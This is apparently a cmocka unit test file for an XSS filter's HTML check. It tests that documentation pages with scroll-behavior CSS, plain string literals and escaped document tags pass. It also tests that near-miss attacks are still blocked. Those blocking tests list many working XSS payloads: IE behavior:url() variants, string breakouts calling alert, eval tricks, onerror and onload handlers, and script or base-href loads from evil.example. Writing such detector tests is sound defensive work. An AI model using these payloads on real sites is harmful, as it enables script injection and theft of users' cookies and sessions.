/* htmlfp4 (session 29): the xss check on documentation pages of our own.
 *
 * Three readings the check got wrong, each with the near attacks that
 * must still fire:
 * - a CSS property whose name only ends in "behavior" (scroll-behavior,
 *   overscroll-behavior) is not IE's behavior property;
 * - an input that is one whole JavaScript string literal ('html', "en"),
 *   put where the page's script has a value, leaves no string open and
 *   names nothing: the page's later bytes stay the tokens they were;
 * - <html>, <head>, <body> without attributes and </html>, </head>,
 *   </body> outside SVG and MathML change nothing a browser runs (a
 *   second <body> only adds its attributes to the first; the end tags are
 *   ignored in the page's body): a page about HTML shows them escaped
 *   (&lt;/body&gt;) beside its own, and that text as an input is found by
 *   its decoded form. Typed as markup (the input as sent), they still
 *   fire: a probe of the sink. */
#include "agent_xss_test.h"

/* moat_check_html for html, with input the request's one (which need not
 * be written in html as it is: its HTML-decoded form may be). */
static int xss_check(const char *html, const char *input)
{
	struct moat_request_info ri = {.method = "GET", .endpoint = "/docs", .policy = pol};
	struct moat_request *r = NULL;
	int v;

	assert_int_equal(moat_request_begin(NULL, &ri, &r), MOAT_ALLOW);
	assert_int_equal(moat_request_add_input(r, MOAT_INPUT_QUERY, "v", input, strlen(input)), 0);
	v = moat_check_html(r, html, strlen(html));
	moat_request_end(r);
	return v;
}

static int count_pages(const char *const (*pages)[3], size_t n, int want)
{
	int bad = 0;

	for (size_t i = 0; i < n; i++)
		if (xss_page(pages[i][0], pages[i][1], pages[i][2]) != want) {
			print_message("%s: %s|%s|%s\n", want == MOAT_ALLOW ? "blocked" : "allowed",
			              pages[i][0], pages[i][1], pages[i][2]);
			bad++;
		}
	return bad;
}

static void a_property_that_ends_in_behavior_is_not_ie_behavior(void **state)
{
	static const char *const pages[][3] = {
	    {"<html lang=\"de\" style=\"", "scroll-behavior: smooth", "\"><body>x</body></html>"},
	    {"<div class=\"box\" style=\"", "overscroll-behavior:contain; max-height:12em",
	     "\">Liste</div>"},
	    {"<div style=\"overflow:auto; ", "OVERSCROLL-BEHAVIOR-Y : none", "\">x</div>"},
	    {"<section style=\"", "Scroll-Behavior :auto;color:#333", "\">y</section>"},
	    {"<p style=\"margin:0;", "overscroll-behaviour: contain", "\">z</p>"},
	};

	(void)state;
	if (count_pages(pages, sizeof pages / sizeof pages[0], MOAT_ALLOW))
		fail_msg("a style with scroll-behavior blocked");
}

static void ie_behavior_still_fires(void **state)
{
	static const char *const pages[][3] = {
	    {"<div style=\"", "behavior: url(x.htc)", "\">x</div>"},
	    {"<div style=\"", "-ms-behavior: url(#default#time2)", "\">x</div>"},
	    {"<div style=\"", "color:red;BEHAVIOR:url(a.htc)", "\">x</div>"},
	    {"<div style=\"", "scroll-behavior:smooth;behavior:url(a.htc)", "\">x</div>"},
	    {"<div style=\"", "x:1;/**/behaviour:url(b.htc)", "\">x</div>"},
	    {"<div style=\"", "\\62 ehavior: url(c.htc)", "\">x</div>"},
	    {"<div style=\"", "b\\ehavior: url(d.htc)", "\">x</div>"},
	    {"<div style=\"", "*behavior: url(f.htc)", "\">x</div>"},
	    {"<div style=\"", "margin:0;_behavior: url(g.htc)", "\">x</div>"},
	    {"<div style=\"", "&#98;ehavior: url(e.htc)", "\">x</div>"},
	};

	(void)state;
	if (count_pages(pages, sizeof pages / sizeof pages[0], MOAT_BLOCK))
		fail_msg("IE's behavior property allowed");
}

static void a_whole_string_literal_where_a_value_goes_is_data(void **state)
{
	static const char *const pages[][3] = {
	    {"<script>var OPTIONS = { BUILDER: ", "'html'",
	     ", LANGUAGE: 'en' };</script><p>Set it to <code>'html'</code>.</p>"},
	    {"<script>\n  var lang = ", "\"fr\"", ";\n  start(lang);\n</script>"},
	    {"<script>t('menu.open', ", "'Ouvrir le menu'", ");</script>"},
	    {"<script>var ok = [", "'Größe & Farbe'", ", 'x'];</script>"},
	    {"<button onclick=\"pick(", "'dunkel'", ")\">Thema</button>"},
	    {"<script>msg(", "\"Don't stop, it's fine!\"", ", 2);</script>"},
	    {"<script>var theme = ", "'dark'", "; apply(theme);</script>"},
	    {"<script>var enc = ", "'utf-8'", ", ext = '.html';</script>"},
	    {"<script>var empty = ", "''", ";</script>"},
	};

	(void)state;
	if (count_pages(pages, sizeof pages / sizeof pages[0], MOAT_ALLOW))
		fail_msg("a whole string literal blocked");
}

static void a_string_literal_that_does_more_still_fires(void **state)
{
	static const char *const pages[][3] = {
	    /* more than one token */
	    {"<script>var a = ", "'x'+alert(1)+'y'", ";</script>"},
	    {"<script>var a = ", "'x';alert(1)//'", ";</script>"},
	    {"<script>var a = ", "'a' 'b'", ";</script>"},
	    /* a string left open, or one the page's bytes close */
	    {"<script>var a = ", "'open", ";\nrun('x');</script>"},
	    {"<script>var a = 'page ", "'x'", " text';</script>"},
	    /* a template, an escape, a line break, markup in the string */
	    {"<script>var a = ", "`${alert(1)}`", ";</script>"},
	    {"<script>var a = ", "'a\\'", ";alert(1)//';</script>"},
	    {"<script>var a = ", "'a\nb'", ";</script>"},
	    {"<script>var a = ", "'<!--<script>'", ";</script><p>x</p><script>y()</script>"},
	    {"<a href=\"#\" onclick=\"f(", "'&#39;);alert(1);//'", ")\">x</a>"},
	    /* a string the page may run, navigate to or load (review21) */
	    {"<script>setTimeout(", "'alert(document.cookie)'", ", 10);</script>"},
	    {"<script>location.href = ", "'javascript:name'", ";</script>"},
	    {"<script>var s = document.createElement('script'); s.src = ", "'//evil.example/x.js'",
	     "; document.head.appendChild(s);</script>"},
	    {"<script>eval(", "'onerror=alert;throw 1'", ");</script>"},
	    {"<script>eval(", "'alert`1`'", ");</script>"},
	    {"<script>eval(", "\"[]['at']\"", ");</script>"},
	    {"<script>el.innerHTML = ", "'<img src=x onerror=alert(1)>'", ";</script>"},
	    /* the string of a javascript: URL's body is rendered as a page */
	    {"<a href=\"javascript:", "'<img src=x onerror=alert(1)>'", "\">x</a>"},
	};

	(void)state;
	if (count_pages(pages, sizeof pages / sizeof pages[0], MOAT_BLOCK))
		fail_msg("a string literal that runs code allowed");
}

static void document_tags_shown_escaped_beside_the_pages_own(void **state)
{
	static const char *const page =
	    "<!DOCTYPE html>\n<html>\n<head>\n<title>Where scripts go</title>\n</head>\n<body>\n"
	    "<p>Load scripts just before <code>&lt;/body&gt;</code>; keep styles in "
	    "<code>&lt;head&gt;</code>. A page starts with <code>&lt;html&gt;</code>, opens "
	    "<code>&lt;body&gt;</code>, and ends with <code>&lt;/html&gt;</code> (after "
	    "<code>&lt;/head&gt;</code> comes the body). Close a form with "
	    "<code>&lt;/form&gt;</code>:"
	    "</p>\n<form action=\"/find\"><input name=\"q\"></form>\n</body>\n</html>\n";
	static const char *const inputs[] = {"&lt;/body&gt;", "&lt;head&gt;",  "&lt;html&gt;",
	                                     "&lt;body&gt;",  "&lt;/html&gt;", "&lt;/head&gt;",
	                                     "&lt;/form&gt;"};
	int bad = 0;

	(void)state;
	for (size_t i = 0; i < sizeof inputs / sizeof inputs[0]; i++)
		if (xss_check(page, inputs[i]) != MOAT_ALLOW) {
			print_message("blocked: %s\n", inputs[i]);
			bad++;
		}
	if (bad)
		fail_msg("%d document tags blocked", bad);
}

static void document_tags_that_do_more_still_fire(void **state)
{
	static const char *const pages[][3] = {
	    {"<p>", "<body onload=alert(1)>", "</p>"},
	    {"<p>", "<BODY/ONPAGESHOW=alert(1)>", "</p>"},
	    {"<p>", "<body background=\"javascript:alert(1)\">", "</p>"},
	    {"<p>", "</body><script>alert(1)</script>", "</p>"},
	    {"<p>", "<html><img src=x onerror=alert(1)>", "</p>"},
	    {"<p>", "<head><base href=\"//evil.example/\">", "</p>"},
	    /* the page's attributes after an input that did not close the tag */
	    {"<p>", "<body", " onload=alert(1)>hi</p>"},
	    /* inside SVG, <body> leaves foreign content */
	    {"<svg><desc>x</desc>", "<body>", "<style>&lt;img src=x&gt;</style></svg>"},
	    {"<math><mi>", "</html>", "</mi></math>"},
	    /* typed as markup: the input as sent is a tag */
	    {"<p>", "</body>", "</p>"},
	    {"<div>", "<HTML><BODY>", "</div>"},
	    {"<p>", "<head>", "</p>"},
	    {"<form action=\"/a\"><input name=\"x\">", "</form>", "<input name=\"y\"></form>"},
	    {"<p>", "<form>", "</p>"},
	    /* a tag-stripping filter's output */
	    {"<p>", "<<body>script>alert(1)<</body>/script>", "</p>"},
	};

	/* decoded forms inside SVG or MathML, or with attributes */
	static const char *const decoded[][2] = {
	    {"<svg><desc>x</desc><body><style>&lt;img src=x&gt;</style></svg>", "&lt;body&gt;"},
	    {"<math><mi></form></mi></math><p>Use &lt;/form&gt;</p>", "&lt;/form&gt;"},
	    {"<svg></html><p>x</p></svg>", "&lt;/html&gt;"},
	    {"<p>See &lt;body onload=init()&gt;</p><body onload=init()>",
	     "&lt;body onload=init()&gt;"},
	};
	int bad = 0;

	(void)state;
	for (size_t i = 0; i < sizeof decoded / sizeof decoded[0]; i++)
		if (xss_check(decoded[i][0], decoded[i][1]) != MOAT_BLOCK) {
			print_message("allowed: %s in %s\n", decoded[i][1], decoded[i][0]);
			bad++;
		}
	if (count_pages(pages, sizeof pages / sizeof pages[0], MOAT_BLOCK) || bad)
		fail_msg("a document tag that does more allowed");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(a_property_that_ends_in_behavior_is_not_ie_behavior),
	    cmocka_unit_test(ie_behavior_still_fires),
	    cmocka_unit_test(a_whole_string_literal_where_a_value_goes_is_data),
	    cmocka_unit_test(a_string_literal_that_does_more_still_fires),
	    cmocka_unit_test(document_tags_shown_escaped_beside_the_pages_own),
	    cmocka_unit_test(document_tags_that_do_more_still_fire),
	};

	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
